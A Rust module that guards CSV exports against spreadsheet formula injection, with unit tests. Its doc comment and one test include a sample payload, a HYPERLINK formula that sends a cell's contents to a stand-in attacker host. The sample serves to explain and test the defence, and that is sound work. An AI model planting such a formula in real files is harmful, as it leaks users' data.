//! Keeping spreadsheet programs from running text as a formula (CSV injection, OWASP).
//!
//! A CSV cell has no type: Excel and LibreOffice treat text that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return as a formula, so a note such as `=HYPERLINK("http://evil.example/?"&A1)`
//! would run on the reader's machine. Such text is written with a leading `'`, which the programs
//! show as text. Numbers are left alone (`-3` stays a number), and the import removes exactly the
//! quote the export added, so a file read back gives the text that was written.

use std::borrow::Cow;

/// The characters that make a spreadsheet program read a cell as a formula.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The quote that marks a cell as text.
const GUARD: char = '\'';

/// A number as the exports write one: an optional minus, digits, an optional fraction.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

fn starts_with_trigger(text: &str) -> bool {
    text.starts_with(FORMULA_TRIGGERS)
}

/// Text as it is written to a CSV cell. Text that already starts with quotes before a trigger
/// gets one more, so that [`unguard`] restores it exactly.
pub fn guard(text: &str) -> Cow<'_, str> {
    let risky = starts_with_trigger(text) && !is_plain_number(text);
    let already_quoted = text.starts_with(GUARD) && starts_with_trigger(text.trim_start_matches(GUARD));
    if risky || already_quoted { Cow::Owned(format!("{GUARD}{text}")) } else { Cow::Borrowed(text) }
}

/// A CSV cell as the text it stands for: drops the one quote [`guard`] added.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if starts_with_trigger(rest.trim_start_matches(GUARD)) => rest,
        _ => cell,
    }
}

/// Whether text is a number that an xlsx export may write as a number cell.
pub fn is_number_text(text: &str) -> bool {
    is_plain_number(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_text_is_quoted() {
        for text in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-1+2"] {
            assert_eq!(guard(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for text in ["-3", "-3.5", "170", "30.0", "", "オープンデータ追加", "a=b", "'quoted"] {
            assert_eq!(guard(text), text, "{text:?}");
        }
    }

    #[test]
    fn unguard_restores_what_guard_wrote() {
        for text in ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "-3", "'=x", "''-x", "'plain", "plain", "'", ""] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
    }

    #[test]
    fn unguard_keeps_a_quote_the_export_did_not_add() {
        assert_eq!(unguard("'hello"), "'hello");
        assert_eq!(unguard("'=x"), "=x");
    }
}
